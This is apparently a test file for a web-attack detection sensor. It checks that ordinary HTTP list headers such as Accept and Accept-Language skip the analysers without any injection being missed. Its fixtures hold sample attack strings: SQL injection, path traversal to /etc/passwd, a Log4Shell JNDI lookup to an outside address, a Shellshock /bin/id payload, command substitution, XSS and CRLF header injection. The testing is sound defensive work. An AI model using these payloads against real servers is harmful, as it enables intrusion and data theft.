"""Plain list headers (Accept*, Cache-Control…) skip the analysers: what fits the grammar, and why nothing is lost."""
from __future__ import annotations

import pytest

from bench import hostile_bench
from sensor.detect import php_words, ptrav, rce, rfi, shell_words, sqli, ssrf, xss
from sensor.detect.header_grammar import is_plain_list
from sensor.detect.rawrequest import parse_raw

BROWSER_VALUES = [
    # Chrome, Firefox, Safari, curl, CRS's test agent: Accept
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,"
    "application/signed-exchange;v=b3;q=0.7",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "text/xml,application/xml,application/xhtml+xml,text/html;q=0.9,text/plain;q=0.8,image/png,*/*;q=0.5",
    "*/*", "application/json, text/plain, */*", "application/vnd.github.v3+json", "image/webp,*/*",
    "text/html;level=1", "application/ld+json;profile=http", "text/plain; charset=utf-8",
    # Accept-Language, Accept-Encoding, Accept-Charset, TE
    "en-US,en;q=0.9", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "zh-Hans-CN, zh;q=0.8", "*", "en_US",
    "gzip, deflate, br, zstd", "gzip,deflate", "identity", "ISO-8859-1,utf-8;q=0.7,*;q=0.7", "trailers, deflate;q=0.5",
    # Cache-Control, Pragma, Keep-Alive, Sec-Fetch-*, Priority, Range
    "max-age=0", "no-cache, no-store, must-revalidate", "no-cache", "timeout=5, max=1000", "navigate",
    "same-origin", "u=0, i", "bytes=0-1023", "1",
]

NOT_PLAIN = [
    "' or 1=1--", "../../etc/passwd", "${jndi:ldap://198.18.0.1/a}", "text/html;q=0.9 union select 1",
    "() { :; }; /bin/id", "a/b/c", "<script>alert(1)</script>", 'W/"abc"', "Wed, 21 Oct 2015 07:28:00 GMT",
    "24+union+all+select+1,2,3+from+aa",     # plus signs for blanks: `+` only before a media type's suffix
    "*/*;select=1", "text/html;shutdown",   # a `;` then a statement word is a stacked query
    "text/html;q=0.9;a=$(id)", "en-US,en;q=0.9\r\nX-Injected: 1", "", "a" * 1100,
]


@pytest.mark.parametrize("value", BROWSER_VALUES)
def test_what_clients_send_is_a_plain_list(value):
    assert is_plain_list(value)


@pytest.mark.parametrize("value", NOT_PLAIN)
def test_quotes_blanks_paths_and_code_are_not(value):
    assert not is_plain_list(value)


def _vocabulary() -> set[str]:
    words = set(sqli.BARE_WORDS) | set(sqli._WORD_CLASS) | set(sqli._FUNC_STRONG) | set(shell_words.STRONG) \
        | set(shell_words.WIN) | set(shell_words.WIN_STRONG) | set(shell_words.PS_VERB_SET) | set(shell_words.PS_NOUN_SET)
    words |= {w.strip() for w in hostile_bench.WORDS}
    words |= {f"{v}-{n}" for v in shell_words.PS_VERB_SET for n in sorted(shell_words.PS_NOUN_SET)[:12]}  # cmdlets
    for name in dir(php_words):
        obj = getattr(php_words, name)
        if isinstance(obj, (set, frozenset)):
            words |= {w for w in obj if isinstance(w, str)}
    return words


def test_no_analyser_reaches_a_counting_score_on_a_plain_list():
    # The engine keeps a structured header's findings from 0.9 only, so skipping the analysers on a plain list loses
    # nothing if none of them gets there. Every word the analysers know, in list shapes, is read by all of them.
    shapes = ("{w}", "text/html,{w}", "*/*;q={w}", "{w};q=0.9", "*/*;{w}={w}", "{w}/{w}", "{w}=1", "{w}, {w}",
              "application/{w}+xml")
    plain, counting = 0, []
    for w in sorted(_vocabulary()):
        for shape in shapes:
            v = shape.format(w=w)
            if not is_plain_list(v) or sqli.names_catalog(v):
                continue
            plain += 1
            for f in (sqli.analyze(v), rce.analyze(v, role=""), rce.analyze(v, role="command"), ssrf.analyze(v, "accept"),
                      xss.analyze(v), ptrav.analyze(v), rfi.analyze(v, "", "a.example")):
                if f is not None and f.score >= 0.9:
                    counting.append((v, f))
    assert plain > 15_000  # the sweep reads the vocabulary, not a handful of words
    assert counting == []


def _header_hits(engine, name: str, value: str) -> list[tuple[str, float]]:
    raw = f"GET / HTTP/1.1\r\nHost: a.example\r\n{name}: {value}\r\n\r\n".encode()
    return sorted((h.rule, h.score) for h in engine.inspect(parse_raw(raw)) if h.point[:1] == ["header"])


@pytest.mark.parametrize("name,value,rule", [
    ("Accept", "information_schema", "sqli:catalog"),          # a word, but a catalog's name: read as before
    ("Accept-Language", "mysql.db", "sqli:catalog"),
    ("Accept", "24+union+all+select+1,2,3+from+aa", "sqli:union_select"),
    ("Accept", "*/*;select=select", "sqli:stacked"),
    ("Accept-Encoding", "gzip;q=1 union select password from users", "sqli:union_select"),
])
def test_injections_in_list_headers_are_still_found(engine, name, value, rule):
    assert rule in [r for r, score in _header_hits(engine, name, value) if score >= 0.9]


@pytest.mark.parametrize("value", BROWSER_VALUES[:4] + ["en-US,en;q=0.9", "gzip, deflate, br, zstd", "max-age=0"])
def test_browser_lists_give_no_hit(engine, value):
    for name in ("Accept", "Accept-Language", "Accept-Encoding", "Cache-Control"):
        assert _header_hits(engine, name, value) == []
